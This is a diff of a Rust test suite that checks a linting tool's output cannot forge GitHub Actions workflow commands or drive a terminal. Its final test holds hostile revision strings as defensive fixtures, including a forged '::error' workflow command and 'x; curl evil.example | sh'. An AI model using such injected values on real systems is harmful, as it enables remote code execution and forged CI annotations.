@@ -321,6 +321,14 @@ fn commands(log: &str) -> Vec<String> {
     found
 }
 
+/// The workflow commands in a log that accord did not write.
+fn forged(log: &str) -> Vec<String> {
+    commands(log)
+        .into_iter()
+        .filter(|l| !accords_own(l))
+        .collect()
+}
+
 /// Whether a command line is one of accord's own annotations.
 fn accords_own(line: &str) -> bool {
     (line.starts_with("::error file=records/") || line.starts_with("::warning file=records/"))
@@ -366,10 +374,7 @@ fn no_output_can_forge_a_workflow_command_or_drive_a_terminal() {
             let out = run(&t.root, &["lint", "--format", format], github);
             let log = text(&out);
             assert_eq!(out.status.code(), Some(1), "{format}: {log}");
-            let forged: Vec<String> = commands(&log)
-                .into_iter()
-                .filter(|l| !accords_own(l))
-                .collect();
+            let forged = forged(&log);
             assert!(
                 forged.is_empty(),
                 "{format} (actions: {github}): {forged:?}\n{log}"
@@ -394,10 +399,7 @@ fn no_output_can_forge_a_workflow_command_or_drive_a_terminal() {
         }
         // fmt --check shows the records' lines in its diff.
         let out = run(&t.root, &["fmt", "--check"], github);
-        let forged: Vec<String> = commands(&text(&out))
-            .into_iter()
-            .filter(|l| !accords_own(l))
-            .collect();
+        let forged = forged(&text(&out));
         assert!(
             forged.is_empty(),
             "fmt --check (actions: {github}): {forged:?}"
@@ -663,12 +665,12 @@ proptest::proptest! {
             proptest::prop_assert!(!log.contains("panicked"), "{format}: {log}");
             // SARIF carries every rule's documentation once (about 100 KB).
             proptest::prop_assert!(out.stdout.len() <= 64 * input + 256 * 1024, "{format}: {} bytes for {input}", out.stdout.len());
-            let forged: Vec<String> = commands(&log).into_iter().filter(|l| !accords_own(l)).collect();
+            let forged = forged(&log);
             proptest::prop_assert!(forged.is_empty(), "{format}: {forged:?}");
         }
         let out = run(&t.root, &["fmt", "--check"], actions);
         proptest::prop_assert!(!text(&out).contains("SECRET-TOKEN"));
-        let forged: Vec<String> = commands(&text(&out)).into_iter().filter(|l| !accords_own(l)).collect();
+        let forged = forged(&text(&out));
         proptest::prop_assert!(forged.is_empty(), "fmt: {forged:?}");
         let out = run(&t.root, &["build", "--as-of", "2026-01-01"], actions);
         proptest::prop_assert_eq!(out.status.code(), Some(0), "{}", text(&out));
@@ -698,20 +700,8 @@ fn a_name_that_is_not_utf8_is_still_named() {
 #[test]
 fn a_hostile_revision_is_escaped_and_never_suggested_as_a_command() {
     let t = tree();
-    let git = |args: &[&str]| {
-        let ok = Command::new("git")
-            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
-            .args(args)
-            .current_dir(&t.root)
-            .stdout(Stdio::null())
-            .stderr(Stdio::null())
-            .status()
-            .expect("git");
-        assert!(ok.success(), "git {args:?}");
-    };
-    git(&["init", "-q"]);
-    git(&["add", "."]);
-    git(&["commit", "-q", "-m", "first"]);
+    common::git(&t.root, &["init", "-q"]);
+    common::commit_all(&t.root, "first");
     for rev in [
         "origin/x\n::error title=forged::pwned",
         "x; curl evil.example | sh",
@@ -721,10 +711,7 @@ fn a_hostile_revision_is_escaped_and_never_suggested_as_a_command() {
             let out = run(&t.root, &["lint", "--base", rev], github);
             let log = text(&out);
             assert_eq!(out.status.code(), Some(2), "{log}");
-            let forged: Vec<String> = commands(&log)
-                .into_iter()
-                .filter(|l| !accords_own(l))
-                .collect();
+            let forged = forged(&log);
             assert!(forged.is_empty(), "{rev:?}: {forged:?}");
             assert!(!log.contains('\u{1b}'), "{log}");
             assert!(
